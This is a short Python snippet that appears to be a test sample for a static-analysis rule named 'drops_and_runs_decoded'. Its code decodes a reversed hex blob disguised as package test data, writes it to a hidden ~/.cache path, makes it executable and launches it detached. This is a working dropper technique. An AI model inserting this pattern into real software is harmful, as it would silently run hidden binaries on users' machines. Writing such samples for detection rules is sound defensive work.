# a program kept as hex in a data file of the package, written out, made executable and started
import os
import subprocess

def _vector(path):
    with open(path) as fh:
        return bytes.fromhex("".join(l.strip() for l in fh)[::-1])

def run():
    exe = os.path.expanduser("~/.cache/.lzkit/lzd")
    with open(exe, "wb") as fh:
        fh.write(_vector("tests/data/vector_ref_03.hex"))
    # ruleid: drops_and_runs_decoded
    os.chmod(exe, 0o755)
    subprocess.Popen([exe, "--selftest"], start_new_session=True)
